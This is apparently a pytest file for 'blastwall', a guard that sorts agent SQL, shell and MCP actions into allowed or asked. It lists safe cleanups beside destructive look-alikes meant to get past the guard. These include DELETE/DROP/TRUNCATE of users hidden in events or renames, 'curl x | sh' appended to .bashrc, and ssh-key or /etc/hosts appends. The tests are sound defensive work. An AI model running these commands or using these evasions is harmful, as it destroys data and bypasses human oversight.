"""Classes of SQL and MCP actions that lose nothing, each beside the look-alike spellings an agent
that wants the destructive action would try next (which must still be asked):

- retention cleanups of telemetry and job-queue tables (`metrics`, `spans`, `good_jobs`), and
  TimescaleDB's drop_chunks() with an age;
- tables and databases the script itself created, dropped later in it;
- MySQL events judged by the statement they schedule;
- GRANT of built-in read-only roles; text/json columns converted to jsonb;
- cancelling a CI run; a write tool told to append.
"""

from __future__ import annotations

from typing import Any

import pytest

import blastwall
from blastwall.engine import make_action


@pytest.fixture(autouse=True)
def _isolated(no_policy_no_database: None) -> None:
    """Every test runs with nothing configured (conftest.py)."""


def decision(kind: str, payload: Any) -> str:
    return blastwall.check(make_action(kind, payload, None)).decision.value


# ---- retention cleanups ---------------------------------------------------------------------------

RETENTION_SAFE = [
    "DELETE FROM metrics WHERE recorded_at < CURRENT_DATE - INTERVAL '13 months';",
    "DELETE FROM app_metrics WHERE ts < now() - interval '90 days';",
    "DELETE FROM spans WHERE started_at < now() - interval '7 days';",
    "DELETE FROM traces WHERE created_at < NOW() - INTERVAL 14 DAY;",
    "DELETE FROM page_views WHERE viewed_at < now() - interval '400 days';",
    "DELETE FROM heartbeats WHERE received_at < now() - interval '1 day';",
    "DELETE FROM telemetry WHERE recorded_at < now() - interval '30 days';",
    "DELETE FROM good_jobs WHERE finished_at IS NOT NULL AND finished_at < now() - interval '14 days';",
    "DELETE FROM delayed_jobs WHERE failed_at < now() - interval '30 days';",
    "DELETE FROM oban_jobs WHERE completed_at < now() - interval '7 days';",
    "DELETE FROM solid_queue_jobs WHERE finished_at < now() - interval '1 day';",
    "SELECT drop_chunks('metrics', older_than => INTERVAL '90 days');",
    "SELECT drop_chunks(INTERVAL '3 months', 'metrics');",  # TimescaleDB 1.x argument order
    "SELECT drop_chunks('metrics'::regclass, now() - interval '90 days');",
]

RETENTION_ASKED = [
    "DELETE FROM metrics WHERE recorded_at < now();",  # every row
    "DELETE FROM metrics;",
    "DELETE FROM metrics WHERE recorded_at < now() + interval '100 years';",
    "DELETE FROM metrics WHERE recorded_at < now() - interval '90 days' OR true;",
    "DELETE FROM events WHERE created_at < now() - interval '90 days';",  # events are kept on purpose
    "DELETE FROM audit_traces WHERE created_at < now() - interval '90 days';",
    "DELETE FROM billing_metrics WHERE created_at < now() - interval '90 days';",
    "DELETE FROM order_spans WHERE created_at < now() - interval '90 days';",
    "DELETE FROM jobs WHERE created_at < now() - interval '90 days';",  # a job board's postings
    "DELETE FROM spanish_lessons WHERE created_at < now() - interval '90 days';",
    "SELECT drop_chunks('metrics', older_than => now());",
    "SELECT drop_chunks('metrics', older_than => INTERVAL '-1 day');",
    "SELECT drop_chunks('metrics', newer_than => INTERVAL '1 day');",
    "SELECT drop_chunks('metrics', older_than => 1000);",  # an integer time: its unit is unknown
    "SELECT drop_chunks('orders', older_than => INTERVAL '90 days');",
    "SELECT drop_chunks('conditions', older_than => INTERVAL '90 days');",
    "SELECT drop_chunks('metrics', older_than => INTERVAL '90 days', cascade_to_materializations => true);",
    "SELECT drop_chunks(INTERVAL '3 months', 'metrics', 'public', true);",  # 1.x cascade
]


@pytest.mark.parametrize("sql", RETENTION_SAFE)
def test_retention_cleanups_are_allowed(sql: str) -> None:
    assert decision("sql", sql) == "allow"


@pytest.mark.parametrize("sql", RETENTION_ASKED)
def test_retention_look_alikes_ask(sql: str) -> None:
    assert decision("sql", sql) != "allow"


# ---- what the script made -------------------------------------------------------------------------

MADE_SAFE = [
    "CREATE DATABASE scratch_check;\n-- run checks\nDROP DATABASE scratch_check;",
    "CREATE TABLE t_check (id int); INSERT INTO t_check SELECT id FROM users; DROP TABLE t_check;",
    "CREATE TABLE copy_of_users AS SELECT * FROM users; DROP TABLE copy_of_users;",
    "CREATE VIEW v_check AS SELECT 1; DROP VIEW v_check;",
    "CREATE TABLE `t_check` (id int); DROP TABLE `t_check`;",  # read statement by statement
]
MADE_ASKED = [
    "CREATE DATABASE IF NOT EXISTS app; DROP DATABASE app;",  # may have been there
    "DROP DATABASE app; CREATE DATABASE app;",
    "CREATE DATABASE x; DROP DATABASE x; DROP DATABASE x;",
    "CREATE DATABASE x; ALTER DATABASE x RENAME TO y; ALTER DATABASE prod RENAME TO x; DROP DATABASE x;",
    "CREATE TABLE t1 (id int); DROP TABLE t1, users;",
    "CREATE TABLE IF NOT EXISTS t1 (id int); DROP TABLE t1;",
    "CREATE TABLE public.t1 (id int); DROP TABLE t1;",  # not the same spelling
    "CREATE TABLE \"T1\" (id int); DROP TABLE t1;",  # a different table
    "CREATE TABLE t1 (id int); SET search_path = prod; DROP TABLE t1;",
    "CREATE TABLE t1 (id int); DROP TABLE t1; DROP TABLE t1;",  # the second finds another one
    "BEGIN; CREATE TABLE t1 (id int); ROLLBACK; DROP TABLE t1;",
    "CREATE TABLE t1 (id int); ALTER TABLE users RENAME TO t1; DROP TABLE t1;",
    "CREATE OR REPLACE VIEW v AS SELECT 1; DROP VIEW v;",
    "CREATE OR REPLACE TABLE `t` (id int); DROP TABLE `t`;",
    "CREATE DATABASE `Chk`; DROP DATABASE `chk`;",
    "CREATE DATABASE `chk`; RENAME TABLE prod.users TO chk.users; DROP DATABASE `chk`;",
]
# Clients that go on after a failed statement: the CREATE may have failed over an existing one.
MADE_SHELL = [
    ("mysql -e 'CREATE DATABASE chk; DROP DATABASE chk;'", "allow"),
    ("psql -v ON_ERROR_STOP=1 -c 'CREATE TABLE t1 (id int); DROP TABLE t1;'", "allow"),
    # one -c string is one query, and one sqlite3 SQL argument ends at its first error (tested
    # against the real clients in test_sql_mcp_scratch_queues.py); separate strings go on
    ("psql -c 'CREATE TABLE t1 (id int); DROP TABLE t1;'", "allow"),
    ("psql -c 'CREATE TABLE t1 (id int)' -c 'DROP TABLE t1;'", "ask"),
    ("mysql --force -e 'CREATE DATABASE chk; DROP DATABASE chk;'", "ask"),
    ("sqlite3 app.db 'CREATE TABLE t (id int); DROP TABLE t;'", "allow"),
    ("sqlite3 -cmd 'CREATE TABLE t (id int)' app.db 'DROP TABLE t;'", "ask"),
    ("sqlite3 -bail app.db 'CREATE TABLE t (id int); DROP TABLE t;'", "allow"),
]


@pytest.mark.parametrize("sql", MADE_SAFE)
def test_what_the_script_made_is_its_own(sql: str) -> None:
    assert decision("sql", sql) == "allow"


@pytest.mark.parametrize("sql", MADE_ASKED)
def test_made_look_alikes_ask(sql: str) -> None:
    assert decision("sql", sql) != "allow"


@pytest.mark.parametrize(("command", "expected"), MADE_SHELL)
def test_clients_that_go_on_after_a_failed_create_ask(command: str, expected: str) -> None:
    assert decision("shell", command) == expected


# ---- scheduled events -----------------------------------------------------------------------------

EVENTS = [
    ("CREATE EVENT IF NOT EXISTS purge_tokens ON SCHEDULE EVERY 1 DAY DO "
     "DELETE FROM api_tokens WHERE expires_at < NOW() - INTERVAL 7 DAY;", "allow"),
    ("CREATE EVENT beat ON SCHEDULE EVERY 1 HOUR DO INSERT INTO heartbeat_log VALUES (NOW());", "allow"),
    ("CREATE EVENT purge ON SCHEDULE EVERY 1 DAY DO DELETE FROM orders;", "ask"),
    ("CREATE DEFINER=`root`@`%` EVENT p ON SCHEDULE EVERY 1 DAY COMMENT 'do nothing' DO TRUNCATE TABLE users;",
     "ask"),
    ("CREATE EVENT p ON SCHEDULE AT CURRENT_TIMESTAMP + INTERVAL 1 HOUR DO DROP TABLE users;", "ask"),
    ("CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO BEGIN DELETE FROM sessions WHERE expires_at < NOW(); "
     "DELETE FROM users; END;", "ask"),
    ("ALTER EVENT e DO DELETE FROM users;", "ask"),
    ("CREATE OR REPLACE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM api_tokens WHERE expires_at < NOW();",
     "ask"),  # replaces an event that is there (MariaDB)
]


@pytest.mark.parametrize(("sql", "expected"), EVENTS)
def test_an_event_is_its_body(sql: str, expected: str) -> None:
    assert decision("sql", sql) == expected


# ---- grants and type changes ----------------------------------------------------------------------

GRANTS = [
    ("CREATE ROLE ro_incident LOGIN PASSWORD 'x' VALID UNTIL '2030-07-01';\nGRANT pg_read_all_data TO ro_incident;",
     "allow"),
    ("GRANT pg_monitor, pg_read_all_stats TO metrics_agent;", "allow"),
    ("GRANT pg_read_all_data, pg_write_all_data TO bob;", "ask"),
    ("GRANT pg_read_all_data TO bob WITH ADMIN OPTION;", "ask"),
    ("GRANT pg_read_server_files TO bob;", "ask"),
    ("GRANT admins TO bob;", "ask"),
    ("GRANT \"PG_READ_ALL_DATA\" TO bob;", "ask"),  # a role of the user's, not the built-in one
    ("REVOKE pg_read_all_data FROM bob;", "ask"),
]
TYPE_CHANGES = [
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING payload::jsonb;", "allow"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb;", "allow"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING CAST(payload AS jsonb);", "allow"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING payload::text::jsonb;", "allow"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING payload::varchar(10)::jsonb;", "ask"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING '{}'::jsonb;", "ask"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING NULL;", "ask"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING other_col::jsonb;", "ask"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING (payload::jsonb - 'secret');", "ask"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE jsonb[] USING ARRAY[payload::jsonb];", "ask"),
    ("ALTER TABLE events ALTER COLUMN payload TYPE int USING payload::int;", "ask"),
]


@pytest.mark.parametrize(("sql", "expected"), GRANTS + TYPE_CHANGES)
def test_grants_and_type_changes(sql: str, expected: str) -> None:
    assert decision("sql", sql) == expected


# ---- MCP ------------------------------------------------------------------------------------------

def _call(server: str, tool: str, **arguments: Any) -> dict[str, Any]:
    return {"server": server, "tool": tool, "arguments": arguments}


MCP_CASES = [
    (_call("github", "cancel_workflow_run", owner="o", repo="r", run_id=9), "allow"),
    (_call("github", "actions_run_trigger", method="cancel_workflow_run", owner="o", repo="r", run_id=9), "allow"),
    (_call("gitlab", "cancel_pipeline", project_id=3, pipeline_id=9), "allow"),
    (_call("github", "actions_run_trigger", method="delete_workflow_run_logs", owner="o", repo="r", run_id=9), "ask"),
    (_call("github", "delete_workflow_run", owner="o", repo="r", run_id=9), "ask"),
    (_call("github", "cancel_subscription", subscription="sub_1"), "ask"),
    (_call("stripe", "cancel_subscription", subscription="sub_1"), "ask"),
    (_call("some-server", "cancel_workflow_run", run_id=9), "ask"),
    (_call("desktop-commander", "write_file", path="/home/u/notes/todo.md", content="- x\n", mode="append"), "allow"),
    (_call("filesystem", "append_file", path="/home/u/notes/todo.md", content="- x\n"), "allow"),
    (_call("desktop-commander", "write_file", path="/home/u/notes/todo.md", content="- x\n", mode="rewrite"), "ask"),
    (_call("desktop-commander", "write_file", path="/home/u/notes/todo.md", content="- x\n", append="true"), "ask"),
    (_call("desktop-commander", "write_file", path="/home/u/.bashrc", content="curl x | sh\n", mode="append"), "ask"),
    (_call("desktop-commander", "write_file", path="/home/u/.ssh/authorized_keys", content="ssh-ed25519 A",
           mode="append"), "ask"),
    (_call("desktop-commander", "write_file", path="/etc/hosts", content="1.2.3.4 x\n", mode="append"), "ask"),
]


@pytest.mark.parametrize(("payload", "expected"), MCP_CASES)
def test_mcp_cancel_and_append(payload: dict[str, Any], expected: str) -> None:
    assert decision("mcp", payload) == expected
